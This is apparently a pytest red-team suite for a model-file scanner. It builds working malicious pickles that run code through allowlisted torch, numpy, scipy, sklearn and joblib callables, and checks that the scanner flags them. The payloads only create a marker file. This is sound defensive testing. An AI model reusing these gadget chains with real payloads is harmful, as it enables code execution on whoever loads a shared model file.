"""Red team: pickles built only from allowlisted callables whose load still runs code.

Each sample is a real attack: loading it with plain `pickle.load` (what `joblib.load` and
`torch.load(weights_only=False)` do with these opcodes) creates a marker file. The payload is
checked for real in a subprocess whose working directory is a fresh temp folder (the only
place the marker can appear); the scanner itself never loads anything. Every sample must
draw a high or critical finding from `bastion scan-model`, which exits non-zero on them.

Techniques (see docs/model-scan.md, "Red team"):

- loader-as-value: `torch.storage._load_from_bytes` (allowed, because plain-pickled
  storages name it) handed to an apply gadget instead of being called by REDUCE, so the
  nested pickle was neither analysed nor reported;
- memo-reused deferred callable: `_ufunc_reconstruct` called once benignly (which cleared
  its "decided when called" check), then fetched again from the memo and planted as an
  instance's `__new__`, so `copyreg._reconstructor` imports `os.mkdir` and `numpy.transpose`
  calls it through the instance's `transpose` attribute;
- apply gadgets: `numpy.random._pickle.__generator_ctor(arg, f)` calls `f(arg)`,
  `copyreg._reconstructor`/`__newobj__`/sklearn `newObj` call `__new__`/`__init__` looked up
  on what may be an instance;
- scipy `rv_generic.__setstate__` exec()s `_parse_arg_template` from the pickled state (also reached
  through `_rebuild_from_type_v2`'s state argument, without BUILD);
- the protocol-4 dotted spelling `('torch', 'storage._load_from_bytes')` of the allowed loader;
- joblib's old `NDArrayWrapper`, which makes `joblib.load` unpickle the file it names;
- joblib array bytes read as opcodes by plain `pickle.load` naming a py2 module (`copy_reg`) planted
  next to the file, which the shadow run mapped as if the stream were protocol 0.

`python tests/model/test_pickle_redteam.py` prints the worst severity per sample (run it with
PYTHONPATH pointing at an older tree to see what that analyser made of them).
"""

from __future__ import annotations

import os
import pickle
import struct
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from bastion.core.types import Severity
from bastion.model.scan import scan_bytes

MARKER = "bastion_redteam_marker"

_LOADER = (
    "import pickle, sys\n"
    "try:\n"
    "    pickle.load(open(sys.argv[1], 'rb'))\n"
    "except Exception as exc:\n"
    "    print(type(exc).__name__, exc)\n"
)


# ---------------------------------------------------------------------- opcode builders
def g(module: str, name: str) -> bytes:
    """GLOBAL: the loader imports `module` and fetches `name`."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def u(text: str) -> bytes:
    """BINUNICODE."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def by(raw: bytes) -> bytes:
    """BINBYTES (protocol 3+)."""
    return b"B" + struct.pack("<I", len(raw)) + raw


def put(i: int) -> bytes:
    return b"q" + bytes([i])


def get(i: int) -> bytes:
    return b"h" + bytes([i])


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) through MARK ... TUPLE REDUCE."""
    return func + b"(" + b"".join(args) + b"tR"


def instance_with(cls_module: str, cls_name: str, state: dict[str, bytes]) -> bytes:
    """An instance of an allowed class (no constructor run) whose __dict__ BUILD sets to `state`."""
    items = b"".join(u(k) + v for k, v in state.items())
    obj = call(g("copyreg", "_reconstructor"), g(cls_module, cls_name), g("builtins", "object"), b"N")
    return obj + b"}(" + items + b"ub"


# ---------------------------------------------------------------------- samples
# The nested payload: open(MARKER, 'w') creates the marker (protocol 0, runs while torch.load reads
# what it takes for the legacy magic number).
_INNER = b"cbuiltins\nopen\n(V" + MARKER.encode() + b"\nVw\ntR."


def loader_via_rebuild_from_type() -> bytes:
    """`_rebuild_from_type_v2(func, new_type, args, state)` runs `func(*args)`."""
    return p4(
        call(
            g("torch._tensor", "_rebuild_from_type_v2"),
            g("torch.storage", "_load_from_bytes"),
            g("builtins", "int"),
            b"(" + by(_INNER) + b"t",
            b"N",
        )
    )


def loader_via_generator_ctor() -> bytes:
    """NumPy's `__generator_ctor(name, ctor)` runs `ctor(name)` (its legacy pickle path)."""
    return p4(
        call(
            g("numpy.random._pickle", "__generator_ctor"),
            by(_INNER),
            g("torch.storage", "_load_from_bytes"),
        )
    )


def memo_reused_ufunc_reconstruct() -> bytes:
    """`_ufunc_reconstruct` is decided when called; a second, memo-fetched reference was not.

    1. `_ufunc_reconstruct('numpy', 'log1p')` (benign, the way ufuncs pickle), the callable
       memoized as 0;
    2. X: an allowed sklearn estimator whose __dict__ has `__new__` = memo 0 and `__init__` = slice;
    3. `copyreg._reconstructor('os', X, 'mkdir')` runs `X.__new__('os', 'mkdir')`, i.e. returns
       `os.mkdir`, then the harmless `X.__init__(os.mkdir, 'mkdir')` (slice);
    4. Y: an estimator whose __dict__ has `transpose` = os.mkdir;
    5. `numpy.transpose(Y, MARKER)` calls `Y.transpose(MARKER)`: os.mkdir(MARKER).
    """
    est = ("sklearn.linear_model._base", "LinearRegression")
    body = (
        g("numpy._core", "_ufunc_reconstruct")
        + put(0)
        + b"("
        + u("numpy")
        + u("log1p")
        + b"tR0"
        + instance_with(*est, {"__new__": get(0), "__init__": g("builtins", "slice")})
        + put(1)
        + b"0"
        + call(g("copyreg", "_reconstructor"), u("os"), get(1), u("mkdir"))
        + put(2)
        + b"0"
        + instance_with(*est, {"transpose": get(2)})
        + put(3)
        + b"0"
        + call(g("numpy", "transpose"), get(3), u(MARKER))
    )
    return p4(body)


def memo_reused_getattr() -> bytes:
    """The same with `builtins.getattr` (also decided when called) reused from the memo.

    A listed getattr (`getattr(zoneinfo.ZoneInfo, '_unpickle')`) clears the check; X.__new__ is then
    the memo-fetched getattr, so `copyreg._reconstructor(pathlib.Path, X, 'touch')` returns
    `Path.touch`, planted as Y.transpose: `numpy.transpose(Y, Path(MARKER))` touches the marker.
    """
    est = ("sklearn.linear_model._base", "LinearRegression")
    body = (
        g("builtins", "getattr")
        + put(0)
        + b"("
        + g("zoneinfo", "ZoneInfo")
        + u("_unpickle")
        + b"tR0"
        + instance_with(*est, {"__new__": get(0), "__init__": g("builtins", "slice")})
        + put(1)
        + b"0"
        + call(g("copyreg", "_reconstructor"), g("pathlib", "Path"), get(1), u("touch"))
        + put(2)
        + b"0"
        + instance_with(*est, {"transpose": get(2)})
        + put(3)
        + b"0"
        + call(g("numpy", "transpose"), get(3), call(g("pathlib", "Path"), u(MARKER)))
    )
    return p4(body)


def newobj_instance_hook() -> bytes:
    """`copyreg.__newobj__(X, *args)` runs `X.__new__(X, *args)`, looked up on an instance's __dict__.

    X.__new__ is `__generator_ctor`, so `__generator_ctor(X, payload)`... takes (name, ctor): ctor is
    called with the name, so plant the loader as `__new__` of X and pass the payload: the loader gets
    X, not the bytes. Instead `__newobj__(X, payload)` with X.__new__ = `numpy.transpose` calls
    `numpy.transpose(X, payload)` -> `X.transpose(payload)` -> `_load_from_bytes(payload)`.
    """
    est = ("sklearn.linear_model._base", "LinearRegression")
    x = instance_with(*est, {"__new__": g("numpy", "transpose"), "transpose": g("torch.storage", "_load_from_bytes")})
    return p4(call(g("copyreg", "__newobj__"), x, by(_INNER)))


def dotted_loader_name() -> bytes:
    """Protocol 4 walks `storage._load_from_bytes` from `torch`: the allowed loader under another spelling.

    `classify` joined module and name (allowed), the loader handling keyed on the tuple as written
    (missed): the nested pickle was neither analysed nor reported.
    """
    return p4(u("torch") + u("storage._load_from_bytes") + b"\x93" + b"(" + by(_INNER) + b"tR")


def scipy_state_via_rebuild_from_type() -> bytes:
    """`_rebuild_from_type_v2(norm_gen, norm_gen, (), state)` calls `ret.__setstate__(state)` without BUILD."""
    scipy_stats = pytest.importorskip("scipy.stats")
    template = f"open({MARKER!r}, 'w').close()\n" + scipy_stats.norm._parse_arg_template
    cls = g("scipy.stats._continuous_distns", "norm_gen")
    state = b"}(" + u("_parse_arg_template") + u(template) + b"u"
    return p4(call(g("torch._tensor", "_rebuild_from_type_v2"), cls, cls, b")", state))


def scipy_parse_arg_template() -> bytes:
    """`rv_generic.__setstate__` exec()s `_parse_arg_template` from the state: a real scipy pickle, edited."""
    scipy_stats = pytest.importorskip("scipy.stats")
    dist = scipy_stats.norm.__class__()  # a fresh norm_gen instance, pickled by scipy itself
    dist._parse_arg_template = f"open({MARKER!r}, 'w').close()\n" + dist._parse_arg_template
    return pickle.dumps(dist, protocol=4)


SAMPLES = {
    "loader-via-rebuild-from-type": loader_via_rebuild_from_type,
    "loader-via-generator-ctor": loader_via_generator_ctor,
    "memo-reused-ufunc-reconstruct": memo_reused_ufunc_reconstruct,
    "memo-reused-getattr": memo_reused_getattr,
    "newobj-instance-hook": newobj_instance_hook,
    "scipy-parse-arg-template": scipy_parse_arg_template,
    "dotted-loader-name": dotted_loader_name,
    "scipy-state-via-rebuild-from-type": scipy_state_via_rebuild_from_type,
}


def payload_runs(blob: bytes) -> bool:
    """Load `blob` with plain pickle.load in a subprocess in a fresh temp folder; did the marker appear?"""
    with tempfile.TemporaryDirectory(prefix="bastion-redteam-") as tmp:
        box = Path(tmp)
        (box / "sample.pkl").write_bytes(blob)
        env = {**os.environ, "HOME": tmp, "TMPDIR": tmp, "PYTHONDONTWRITEBYTECODE": "1"}
        subprocess.run(
            [sys.executable, "-c", _LOADER, "sample.pkl"],
            cwd=tmp,
            env=env,
            timeout=120,
            capture_output=True,
            check=False,
        )
        return (box / MARKER).exists()


def _worst(blob: bytes) -> Severity | None:
    return max((f.severity for f in scan_bytes(blob, "redteam.pkl")), default=None)


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_redteam_sample_is_flagged(name: str) -> None:
    blob = SAMPLES[name]()
    worst = _worst(blob)
    assert worst is not None and worst >= Severity.HIGH, (name, scan_bytes(blob, "redteam.pkl"))


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_redteam_payload_really_runs(name: str) -> None:
    pytest.importorskip("torch")
    pytest.importorskip("sklearn")
    if name == "memo-reused-ufunc-reconstruct":
        import numpy._core

        if not hasattr(numpy._core, "_ufunc_reconstruct"):
            pytest.skip("NumPy 2 dropped _ufunc_reconstruct (ufuncs pickle by name); NumPy 1.x loads it")
    assert payload_runs(SAMPLES[name]()), f"{name}: the payload did not take effect under pickle.load"


def test_cli_exits_nonzero_on_every_sample(tmp_path: Path) -> None:
    import typer

    from bastion.cli import scan_model

    app = typer.Typer()

    @app.callback()
    def _root() -> None:
        pass

    scan_model.register(app)
    for name, build in SAMPLES.items():
        path = tmp_path / f"{name}.pkl"
        path.write_bytes(build())
        result = CliRunner().invoke(app, ["scan-model", str(path), "--json"])
        assert result.exit_code != 0, (name, result.output)


# ---------------------------------------------------------------------- each fix on its own
def _rules(blob: bytes) -> dict[str, Severity]:
    return {f.rule_id: f.severity for f in scan_bytes(blob, "redteam.pkl") if f.severity >= Severity.HIGH}


def test_memo_reused_getattr_passed_as_a_value_is_flagged() -> None:
    # getattr called once as enums pickle (cleared), then its memo copy only stored in a list
    blob = p4(
        g("builtins", "getattr") + put(0) + call(b"", g("zoneinfo", "ZoneInfo"), u("_unpickle")) + b"0]" + get(0) + b"a"
    )
    assert "model.pickle.dangerous-callable" in _rules(blob)


def test_memoized_getattr_called_on_every_reference_stays_clean() -> None:
    # the way pickle writes several enum members: one GLOBAL, then BINGET + REDUCE per member
    blob = p4(
        g("builtins", "getattr")
        + put(0)
        + call(b"", g("zoneinfo", "ZoneInfo"), u("_unpickle"))
        + b"0"
        + call(get(0), g("zoneinfo", "ZoneInfo"), u("_unpickle"))
        + b"0"
        + call(get(0), g("zoneinfo", "ZoneInfo"), u("_unpickle"))
    )
    assert not _rules(blob)


def test_loader_stored_as_a_value_is_flagged() -> None:
    blob = p4(call(g("collections", "defaultdict"), g("torch.storage", "_load_from_bytes")))
    assert _rules(blob).get("model.pickle.dangerous-callable") is Severity.CRITICAL


def test_loader_called_directly_is_analysed_not_double_reported() -> None:
    blob = p4(call(g("torch.storage", "_load_from_bytes"), by(b"\x80\x02K\x01.")))
    found = [f for f in scan_bytes(blob, "r.pkl") if f.rule_id == "model.pickle.dangerous-callable"]
    assert not found


def test_apply_gadget_with_a_computed_callable_is_flagged() -> None:
    vec = call(g("numpy", "vectorize"), g("numpy", "clip"))
    blob = p4(call(g("torch._tensor", "_rebuild_from_type_v2"), vec, g("builtins", "int"), b")", b"N"))
    assert "model.pickle.unresolved-callable" in _rules(blob)


def test_apply_gadget_inner_call_is_judged_like_reduce() -> None:
    blob = p4(
        call(
            g("torch._tensor", "_rebuild_from_type_v2"),
            g("builtins", "getattr"),
            g("builtins", "int"),
            b"(" + g("pathlib", "Path") + u("write_text") + b"t",
            b"N",
        )
    )
    assert "model.pickle.unknown-callable" in _rules(blob) or "model.pickle.dangerous-callable" in _rules(blob)


def test_copyreg_reconstructor_on_an_instance_is_flagged() -> None:
    inst = instance_with("sklearn.linear_model._base", "LinearRegression", {})
    blob = p4(call(g("copyreg", "_reconstructor"), g("builtins", "object"), inst, b"N"))
    assert "model.pickle.unresolved-callable" in _rules(blob)


def test_scipy_state_as_pairs_is_flagged() -> None:
    # __dict__.update also takes a list of pairs: a state the analyser cannot read as a dict
    blob = p4(
        g("scipy.stats._continuous_distns", "norm_gen")
        + b")\x81"
        + b"](("
        + u("_parse_arg_template")
        + u("open('x','w')")
        + b"tab"
    )
    assert _rules(blob)


def test_every_scipy_distribution_pickles_clean() -> None:
    stats = pytest.importorskip("scipy.stats")
    from bastion.model._scan._pickle.policy import RV_GENERIC

    dists = [
        d
        for d in (getattr(stats, n) for n in dir(stats))
        if isinstance(d, stats.rv_continuous | stats.rv_discrete)
        and f"{type(d).__module__}.{type(d).__qualname__}" in RV_GENERIC  # levy_stable is not listed
    ]
    assert len(dists) > 100
    for dist in dists:
        blob = pickle.dumps(dist, protocol=4)
        assert not _rules(blob), (dist.name, scan_bytes(blob, "d.pkl"))
        try:
            frozen = pickle.dumps(dist(*([0.5] * (dist.numargs or 0))), protocol=2)
        except Exception:  # a few distributions reject these shape values; the unfrozen pickle was checked
            continue
        assert not _rules(frozen), (dist.name, scan_bytes(frozen, "d.pkl"))


def test_rv_generic_table_is_complete() -> None:
    stats = pytest.importorskip("scipy.stats")
    import importlib

    from bastion.model._scan._pickle.allowlist import ALLOWED
    from bastion.model._scan._pickle.policy import RV_GENERIC

    rv_generic = stats._distn_infrastructure.rv_generic
    for name in ALLOWED:
        module, _, attr = name.rpartition(".")
        if not module.startswith("scipy."):
            continue
        obj = getattr(importlib.import_module(module), attr, None)
        if isinstance(obj, type) and issubclass(obj, rv_generic):
            assert name in RV_GENERIC, name


def test_ufunc_reconstructed_loader_passed_on_is_flagged() -> None:
    # NumPy 1.x: _ufunc_reconstruct('torch.storage', '_load_from_bytes') yields the loader as a value
    blob = p4(
        call(
            g("collections", "defaultdict"),
            call(g("numpy.core", "_ufunc_reconstruct"), u("torch.storage"), u("_load_from_bytes")),
        )
    )
    assert _rules(blob).get("model.pickle.dangerous-callable") is Severity.CRITICAL


# ---------------------------------------------------------------------- techniques that were already caught
def _joblib_object_array_payload() -> bytes:
    import io

    import joblib
    import numpy as np

    buf = io.BytesIO()
    arr = np.empty(1, dtype=object)
    arr[0] = _Reduce()
    joblib.dump(arr, buf)
    return buf.getvalue()


class _Reduce:
    """Pickles as os.system('true') (never loaded by these tests; the scanner must flag it)."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, ("true",))


ALREADY_CAUGHT = {
    "py2-builtin-getattr": lambda: b"c__builtin__\ngetattr\n(cos\nsystem\nS'x'\ntR.",
    "py2-copy_reg-reconstructor": lambda: b"ccopy_reg\n_reconstructor\n(cos\nsystem\nc__builtin__\nobject\nNtR.",
    "ext1-registry": lambda: b"\x80\x02\x82\x01(S'x'\ntR.",
    "inst-memo-getattr": lambda: p4(
        g("builtins", "getattr") + put(0) + b"0(" + g("zoneinfo", "ZoneInfo") + u("_unpickle") + b"ibuiltins\ngetattr\n"
    ),
    "obj-memo-getattr": lambda: p4(g("builtins", "getattr") + put(0) + b"0(" + get(0) + u("a") + u("b") + b"o"),
    "newobj-ex-getattr": lambda: p4(g("builtins", "getattr") + b")}\x92"),
    "stack-global-memo-strings": lambda: p4(
        u("os") + put(0) + u("system") + put(1) + b"00" + get(0) + get(1) + b"\x93(" + u("x") + b"tR"
    ),
    "cyrillic-confusable-module": lambda: p4(u("\u043es") + u("system") + b"\x93(" + u("x") + b"tR"),
    "numpy-load-allow-pickle": lambda: p4(call(g("numpy", "load"), u("x.npy"), b"\x88")),
    "numpy-lib-npyio": lambda: p4(call(g("numpy.lib.npyio", "load"), u("x.npy"))),
    "pandas-read-pickle": lambda: p4(call(g("pandas", "read_pickle"), u("x.pkl"))),
    "torch-load": lambda: p4(call(g("torch", "load"), u("x.pt"))),
    "joblib-load": lambda: p4(call(g("joblib", "load"), u("x.pkl"))),
    "functools-partial": lambda: p4(call(g("functools", "partial"), g("numpy", "clip"))),
    "operator-attrgetter": lambda: p4(call(call(g("operator", "attrgetter"), u("write_text")), g("pathlib", "Path"))),
    "operator-methodcaller": lambda: p4(call(g("operator", "methodcaller"), u("touch"))),
    "function-transformer-os-system": lambda: p4(
        call(g("sklearn.preprocessing._function_transformer", "FunctionTransformer"), g("os", "system"))
    ),
    "numpy-vectorize-os-system": lambda: p4(call(g("numpy", "vectorize"), g("os", "system"))),
    "nested-pickle-computed-payload": lambda: p4(
        call(g("pickle", "loads"), call(g("_codecs", "encode"), u("cos\nsystem\n(S'x'\ntR."), u("latin1")))
    ),
    "torch-load-from-bytes-nested": lambda: p4(call(g("torch.storage", "_load_from_bytes"), by(_INNER))),
    "persid-plain-pickle": lambda: p4(b"Pabc\n" + b"(" + u("x") + b"tR"),
    "build-on-class": lambda: p4(g("numpy", "vectorize") + b"}(" + u("__call__") + g("os", "system") + b"ub"),
    "copyreg-reconstructor-global-state": lambda: p4(
        call(g("copyreg", "_reconstructor"), g("collections", "OrderedDict"), g("builtins", "dict"), g("os", "environ"))
    ),
    "joblib-object-array": _joblib_object_array_payload,
}


@pytest.mark.parametrize("name", sorted(ALREADY_CAUGHT))
def test_known_technique_is_flagged(name: str) -> None:
    blob = ALREADY_CAUGHT[name]()
    assert _rules(blob), (name, scan_bytes(blob, "r.pkl"))


def test_build_state_planting_a_method_hook_is_flagged() -> None:
    inst = instance_with("sklearn.linear_model._base", "LinearRegression", {"__new__": g("builtins", "slice")})
    assert "model.pickle.unresolved-callable" in _rules(p4(inst))


def test_build_slot_state_planting_a_method_hook_is_flagged() -> None:
    inst = call(g("copyreg", "_reconstructor"), g("pathlib", "Path"), g("builtins", "object"), b"N")
    blob = p4(inst + b"N}(" + u("__array__") + g("builtins", "slice") + b"u\x86b")
    assert "model.pickle.unresolved-callable" in _rules(blob)


def test_rebuild_from_type_state_planting_a_hook_is_flagged() -> None:
    est = g("sklearn.linear_model._base", "LinearRegression")
    state = b"}(" + u("__new__") + g("builtins", "slice") + b"u"
    blob = p4(call(g("torch._tensor", "_rebuild_from_type_v2"), est, est, b")", state))
    assert "model.pickle.unresolved-callable" in _rules(blob)


def test_rebuild_parameter_state_planting_a_hook_is_flagged() -> None:
    state = b"}(" + u("__torch_function__") + g("builtins", "slice") + b"u"
    blob = p4(call(g("torch._utils", "_rebuild_parameter_with_state"), b"N", b"\x89", b"}", state))
    assert "model.pickle.unresolved-callable" in _rules(blob)


# ---------------------------------------------------------------------- joblib's old-format sidecar files
def joblib_sidecar(filename: str) -> bytes:
    """joblib < 0.10 NDArrayWrapper: joblib.load runs np.load(join(dir, filename), allow_pickle=True)."""
    state = b"}(" + u("filename") + u(filename) + u("subclass") + g("numpy", "ndarray") + u("allow_mmap") + b"\x89u"
    return p4(g("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81" + state + b"b")


@pytest.mark.parametrize("absolute", [False, True])
def test_joblib_sidecar_payload_really_runs(tmp_path: Path, absolute: bool) -> None:
    pytest.importorskip("joblib")
    sidecar = tmp_path / "elsewhere" / "weights.bin" if absolute else tmp_path / "weights.bin"
    sidecar.parent.mkdir(exist_ok=True)
    sidecar.write_bytes(_INNER)  # a plain pickle: np.load(allow_pickle=True) unpickles it
    (tmp_path / "model.pkl").write_bytes(joblib_sidecar(str(sidecar) if absolute else "weights.bin"))
    subprocess.run(
        [sys.executable, "-c", "import joblib\ntry:\n    joblib.load('model.pkl')\nexcept Exception:\n    pass\n"],
        cwd=tmp_path,
        env={**os.environ, "HOME": str(tmp_path), "TMPDIR": str(tmp_path)},
        timeout=120,
        capture_output=True,
        check=False,
    )
    assert (tmp_path / MARKER).exists()


@pytest.mark.parametrize(
    ("filename", "severity"),
    [
        ("weights.bin", Severity.HIGH),
        ("/tmp/anything.npy", Severity.CRITICAL),
        ("../other/x.npy", Severity.CRITICAL),
        ("C:\\\\x.npy", Severity.CRITICAL),
    ],
)
def test_joblib_sidecar_is_flagged(filename: str, severity: Severity) -> None:
    worst = _worst(joblib_sidecar(filename))
    assert worst is severity


def test_joblib_sidecar_named_by_constructor_args_is_flagged() -> None:
    blob = p4(call(g("joblib.numpy_pickle_compat", "NDArrayWrapper"), u("/etc/x.npy"), g("numpy", "ndarray")) + b"Nb")
    assert _worst(blob) is Severity.CRITICAL


def test_hook_key_after_the_dict_cap_is_still_seen() -> None:
    junk = b"".join(u(f"k{i}") + b"N" for i in range(5000))
    inst = call(
        g("copyreg", "_reconstructor"),
        g("sklearn.linear_model._base", "LinearRegression"),
        g("builtins", "object"),
        b"N",
    )
    state_setitems = b"}(" + junk + b"u" + u("__new__") + g("builtins", "slice") + b"s"
    state_dict_op = b"(" + junk + u("__new__") + g("builtins", "slice") + b"d"
    for state in (state_setitems, state_dict_op):
        assert "model.pickle.unresolved-callable" in _rules(p4(inst + state + b"b"))


def test_hook_key_in_a_pairs_state_is_flagged() -> None:
    inst = call(g("copyreg", "_reconstructor"), g("torch.nn.modules.linear", "Identity"), g("builtins", "object"), b"N")
    state = b"](" + u("__new__") + g("builtins", "slice") + b"\x86e"
    assert "model.pickle.unresolved-callable" in _rules(p4(inst + state + b"b"))


def test_build_state_fetched_from_past_the_memo_cap_is_flagged() -> None:
    from bastion.model._scan._pickle.analyser import PickleAnalyser
    from bastion.model._scan.context import Limits, ScanContext

    inst = instance_with("sklearn.linear_model._base", "LinearRegression", {})
    state = b"}" + put(5) + b"(" + u("__new__") + g("builtins", "slice") + b"u0"
    filler = b"".join(b"N" + put(i) + b"0" for i in range(5))  # memo keys 0..4 fill the (tiny) cap
    blob = p4(filler + state + inst + get(5) + b"b")
    ctx = ScanContext("t.pkl", Limits(max_memo=3))
    PickleAnalyser(ctx).analyse(blob)
    assert "model.pickle.unresolved-callable" in {f.rule_id for f in ctx.findings}


def test_cython_unpickle_state_planting_a_hook_is_flagged() -> None:
    state = b"(" + b"N" + b"}(" + u("__new__") + g("builtins", "slice") + b"ut"
    seq = g("numpy.random.bit_generator", "SeedSequence")
    blob = p4(call(g("numpy.random.bit_generator", "__pyx_unpickle_SeedSequence"), seq, b"K\x01", state))
    assert "model.pickle.unresolved-callable" in _rules(blob)


def _matrix() -> None:
    """Print the worst severity per red-team sample (docs/model-scan.md runs this against old trees too)."""
    samples = dict(SAMPLES)
    samples["joblib-sidecar"] = lambda: joblib_sidecar("weights.bin")
    samples["joblib-sidecar-abs"] = lambda: joblib_sidecar("/tmp/x.npy")
    samples["joblib-shadow-py2-name"] = joblib_array_bytes_import_py2_name
    for name, build in samples.items():
        worst = _worst(build())
        print(f"{name:38s} {worst.name if worst else 'clean'}")
    known = sum(1 for build in ALREADY_CAUGHT.values() if _rules(build()))
    print(f"already-caught techniques flagged: {known}/{len(ALREADY_CAUGHT)}")


# ---------------------------------------------------------------------- joblib shadow run: protocol carried over
_SHADOW_PAYLOAD = b"\x8c\x08copy_reg\x8c\x0e_reconstructor\x93."


def joblib_array_bytes_import_py2_name() -> bytes:
    """A joblib array whose bytes, read by plain pickle.load of this protocol-4 stream, import `copy_reg`.

    Protocol >= 3 does not map py2 names, so the loader imports a module literally named `copy_reg`
    (a first stage planted it in the working directory); joblib.load reads the bytes as array data.
    """
    dtype = (
        call(g("numpy", "dtype"), u("u1"), b"\x89", b"\x88")
        + b"(K\x03X\x01\x00\x00\x00|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    )
    state = (
        b"}("
        + u("subclass")
        + g("numpy", "ndarray")
        + u("shape")
        + b"K"
        + bytes([len(_SHADOW_PAYLOAD)])
        + b"\x85"
        + u("order")
        + u("C")
        + u("dtype")
        + dtype
        + u("allow_mmap")
        + b"\x89u"
    )
    return (
        b"\x80\x04" + g("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b" + _SHADOW_PAYLOAD + b"."
    )


def test_joblib_shadow_run_keeps_the_stream_protocol() -> None:
    assert _rules(joblib_array_bytes_import_py2_name())


def test_joblib_shadow_payload_really_runs(tmp_path: Path) -> None:
    (tmp_path / "model.pkl").write_bytes(joblib_array_bytes_import_py2_name())
    (tmp_path / "copy_reg.py").write_text(f"open({MARKER!r}, 'w').close()\ndef _reconstructor(*a):\n    return None\n")
    subprocess.run(
        [sys.executable, "-c", _LOADER, "model.pkl"],
        cwd=tmp_path,
        env={**os.environ, "HOME": str(tmp_path), "TMPDIR": str(tmp_path), "PYTHONDONTWRITEBYTECODE": "1"},
        timeout=120,
        capture_output=True,
        check=False,
    )
    assert (tmp_path / MARKER).exists()


@pytest.mark.parametrize(("key", "ops"), [("append", b"Na"), ("extend", b"(Ne"), ("add", b"(N\x90")])
def test_append_through_a_planted_instance_method_is_flagged(key: str, ops: bytes) -> None:
    inst = instance_with("sklearn.linear_model._base", "LinearRegression", {key: g("builtins", "slice")})
    assert "model.pickle.unresolved-callable" in _rules(p4(inst + ops))


if __name__ == "__main__":
    _matrix()
